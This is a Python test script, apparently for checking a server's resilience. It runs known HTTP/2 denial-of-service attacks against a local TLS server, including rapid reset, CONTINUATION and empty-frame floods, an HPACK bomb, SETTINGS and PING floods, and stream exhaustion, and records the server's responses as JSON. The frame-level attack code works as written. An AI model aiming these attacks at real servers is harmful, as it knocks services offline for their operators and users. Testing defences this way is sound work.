"""HTTP/2 attacks on a TLS server, one per mode, each printing what the server did as JSON.

Usage: h2_attacks.py MODE PORT CA

Frames are built with hyperframe and field blocks with hpack (python-hyper's, the `h2`
package's own), so that each attack is exactly the bytes its advisory describes rather
than what a well-behaved client library would agree to send. Each mode reads the
server's answers until it sends GOAWAY, closes, or the attack is over, and reports:
  goaway      the GOAWAY's error code, or null
  resets      {error code: count} of RST_STREAMs received
  responses   HEADERS frames received (answers)
  blocked     the server stopped reading (our send timed out), for the floods
  sent        frames of the attack sent
  seconds     how long the attack lasted
"""

import json
import socket
import ssl
import sys
import time

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


class Attacker:
    def __init__(self, port, ca, settings=None):
        ctx = ssl.create_default_context(cafile=ca)
        ctx.set_alpn_protocols(["h2"])
        raw = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.tls = ctx.wrap_socket(raw, server_hostname="localhost")
        assert self.tls.selected_alpn_protocol() == "h2"
        self.encoder = hpack.Encoder()
        self.buf = b""
        self.goaway = None
        self.resets = {}
        self.responses = 0
        self.data = 0
        self.closed = False
        hello = SettingsFrame(0, settings or {})
        self.tls.sendall(PREFACE + hello.serialize())
        self.authority = f"localhost:{port}"

    def block(self, fields):
        return self.encoder.encode(fields)

    def request(self, method="GET", path="/", extra=()):
        return [
            (":method", method),
            (":scheme", "https"),
            (":path", path),
            (":authority", self.authority),
        ] + list(extra)

    def send(self, *frames):
        self.tls.sendall(b"".join(f.serialize() for f in frames))

    def pump(self, timeout):
        """Reads and handles what the server sends, for up to `timeout` seconds or until
        it closes; answers its SETTINGS and PINGs as any client would."""
        self.tls.settimeout(timeout)
        end = time.monotonic() + timeout
        while not self.closed and time.monotonic() < end:
            try:
                data = self.tls.recv(65536)
            except (socket.timeout, ssl.SSLWantReadError):
                return
            except (ConnectionError, ssl.SSLError, OSError):
                self.closed = True
                return
            if not data:
                self.closed = True
                return
            self.buf += data
            while len(self.buf) >= 9:
                frame, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
                if len(self.buf) < 9 + length:
                    break
                frame.parse_body(memoryview(self.buf[9 : 9 + length]))
                self.buf = self.buf[9 + length :]
                self.handle(frame)

    def handle(self, frame):
        if isinstance(frame, GoAwayFrame):
            self.goaway = frame.error_code
        elif isinstance(frame, RstStreamFrame):
            self.resets[frame.error_code] = self.resets.get(frame.error_code, 0) + 1
        elif isinstance(frame, HeadersFrame):
            self.responses += 1
        elif isinstance(frame, DataFrame):
            self.data += len(frame.data)
        elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
            try:
                self.send(SettingsFrame(0, flags=["ACK"]))
            except OSError:
                self.closed = True

    def report(self, **extra):
        out = {
            "goaway": self.goaway,
            "resets": {str(k): v for k, v in self.resets.items()},
            "responses": self.responses,
            "data": self.data,
        }
        out.update(extra)
        print(json.dumps(out))


def flood(attacker, frames, limit_seconds=10):
    """Sends `frames` (a generator of byte strings) without reading, until the server
    stops reading (our send times out: it is not buffering for us), closes, or the
    attack is over. Returns (sent, blocked)."""
    attacker.tls.settimeout(3)
    sent = 0
    end = time.monotonic() + limit_seconds
    for chunk in frames:
        if time.monotonic() > end:
            return sent, False
        try:
            attacker.tls.sendall(chunk)
        except socket.timeout:
            return sent, True
        except (ConnectionError, ssl.SSLError, OSError):
            # The server closed: what it said before (its GOAWAY) is read after.
            return sent, False
        sent += 1
    return sent, False


def batches(make, count, per_batch=100):
    """`count` frames from `make(i)`, serialised `per_batch` at a time."""
    for start in range(0, count, per_batch):
        yield b"".join(make(i).serialize() for i in range(start, min(count, start + per_batch)))


def main():
    mode, port, ca = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    started = time.monotonic()
    if mode == "rapid_reset":
        # CVE-2023-44487: open a stream and cancel it at once, as fast as possible.
        a = Attacker(port, ca)
        a.pump(0.5)

        def pair(i):
            stream = 1 + 2 * i
            headers = HeadersFrame(stream, a.block(a.request()), flags=["END_HEADERS", "END_STREAM"])
            return headers.serialize() + RstStreamFrame(stream, error_code=8).serialize()

        def chunks():
            for start in range(0, 100_000, 50):
                yield b"".join(pair(i) for i in range(start, start + 50))

        sent, blocked = flood(a, chunks())
        a.pump(3)
        a.report(sent=sent * 50, blocked=blocked, seconds=time.monotonic() - started)
    elif mode == "continuation_flood":
        # CVE-2024-27316 and kin: a field block that never ends, in full-size frames.
        a = Attacker(port, ca)
        a.pump(0.5)
        first = HeadersFrame(1, a.block(a.request()), flags=["END_STREAM"])
        junk = a.block([("x-filler", "a" * 8000)]) * 2
        frames = (ContinuationFrame(1, junk).serialize() for _ in range(10_000))
        a.send(first)
        sent, blocked = flood(a, frames)
        a.pump(3)
        a.report(sent=sent, blocked=blocked, seconds=time.monotonic() - started)
    elif mode == "empty_continuation":
        a = Attacker(port, ca)
        a.pump(0.5)
        a.send(HeadersFrame(1, a.block(a.request()), flags=["END_STREAM"]))
        sent, blocked = flood(a, batches(lambda i: ContinuationFrame(1, b""), 200_000))
        a.pump(3)
        a.report(sent=sent * 100, blocked=blocked, seconds=time.monotonic() - started)
    elif mode == "hpack_bomb":
        # One 4 KB field indexed, then a block of one-byte references to it.
        a = Attacker(port, ca)
        a.pump(0.5)
        big = a.block(a.request() + [("x-bomb", "b" * 4000)])
        a.send(HeadersFrame(1, big, flags=["END_HEADERS", "END_STREAM"]))
        a.pump(0.5)
        refs = a.block(a.request()) + bytes([0x80 | 62]) * 16_000
        a.send(HeadersFrame(3, refs, flags=["END_HEADERS", "END_STREAM"]))
        a.pump(3)
        a.report(seconds=time.monotonic() - started)
    elif mode in ("settings_flood", "ping_flood"):
        # Frames the server must answer, sent without reading its answers.
        a = Attacker(port, ca)
        a.pump(0.5)
        if mode == "settings_flood":
            make = lambda i: SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: 65535})
        else:
            make = lambda i: PingFrame(0, opaque_data=i.to_bytes(8, "big"))
        sent, blocked = flood(a, batches(make, 5_000_000))
        a.report(sent=sent * 100, blocked=blocked, seconds=time.monotonic() - started)
    elif mode == "empty_data":
        # CVE-2019-9518: a stream's body as endless empty DATA frames.
        a = Attacker(port, ca)
        a.pump(0.5)
        a.send(HeadersFrame(1, a.block(a.request("POST", "/")), flags=["END_HEADERS"]))
        sent, blocked = flood(a, batches(lambda i: DataFrame(1, b""), 200_000))
        a.pump(3)
        a.report(sent=sent * 100, blocked=blocked, seconds=time.monotonic() - started)
    elif mode == "priority_flood":
        # CVE-2019-9513's churn: PRIORITY frames reshuffling streams that never open;
        # then a request on the same connection must still be answered.
        a = Attacker(port, ca)
        a.pump(0.5)
        # Never on itself (a stream error, tested apart).
        make = lambda i: PriorityFrame(1 + 2 * (i % 5000), depends_on=3 + 2 * ((i * 7) % 5000) + 2 * (i % 5000), stream_weight=i % 256)
        sent, blocked = flood(a, batches(make, 200_000))
        a.send(HeadersFrame(20_001, a.block(a.request()), flags=["END_HEADERS", "END_STREAM"]))
        a.pump(5)
        a.report(sent=sent * 100, blocked=blocked, seconds=time.monotonic() - started)
    elif mode == "zero_window":
        # A response the client never lets through: how long the server holds it.
        a = Attacker(port, ca, {SettingsFrame.INITIAL_WINDOW_SIZE: 0})
        a.pump(0.5)
        a.send(HeadersFrame(1, a.block(a.request("GET", "/big")), flags=["END_HEADERS", "END_STREAM"]))
        a.pump(30)
        a.report(closed=a.closed, seconds=time.monotonic() - started)
    elif mode == "stream_exhaustion":
        # More streams than SETTINGS_MAX_CONCURRENT_STREAMS, each left open (a body
        # that never comes).
        a = Attacker(port, ca)
        a.pump(0.5)
        frames = [
            HeadersFrame(1 + 2 * i, a.block(a.request("POST", "/", [("content-length", "10")])), flags=["END_HEADERS"])
            for i in range(200)
        ]
        a.send(*frames)
        a.pump(2)
        a.report(seconds=time.monotonic() - started)
    elif mode == "data_beyond_length":
        # RFC 9113 section 8.1.1: DATA past the content-length is malformed.
        a = Attacker(port, ca)
        a.pump(0.5)
        a.send(
            HeadersFrame(1, a.block(a.request("POST", "/", [("content-length", "5")])), flags=["END_HEADERS"]),
            DataFrame(1, b"0123456789", flags=["END_STREAM"]),
        )
        # (Less than the test server's 2 s keep-alive, which would close the connection.)
        a.pump(0.5)
        # The connection goes on: a request after it is answered.
        a.send(HeadersFrame(3, a.block(a.request()), flags=["END_HEADERS", "END_STREAM"]))
        a.pump(1)
        a.report(seconds=time.monotonic() - started)
    else:
        raise SystemExit(f"unknown mode {mode}")


if __name__ == "__main__":
    main()
